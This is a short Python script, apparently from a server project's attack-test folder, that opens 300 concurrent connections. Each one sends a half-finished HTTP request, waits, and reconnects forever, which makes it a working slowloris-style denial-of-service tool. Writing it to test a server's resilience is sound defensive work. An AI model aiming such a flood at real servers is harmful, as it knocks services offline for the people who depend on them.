"""Connections that begin to ask and never go on."""

from __future__ import annotations

import asyncio
import socket

from tests.attacks.common import main


async def attack(host: str, port: int) -> None:
    """300 at once, and each again when it is closed."""
    loop = asyncio.get_running_loop()

    async def one() -> None:
        while True:
            with socket.socket() as half:
                half.setblocking(False)
                try:
                    await loop.sock_connect(half, (host, port))
                    await loop.sock_sendall(half, b"GET / HTTP/1.1\r\nHost: 127")
                    await loop.sock_recv(half, 100)
                except OSError:
                    pass
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one() for _ in range(300)))


if __name__ == "__main__":
    main(attack)
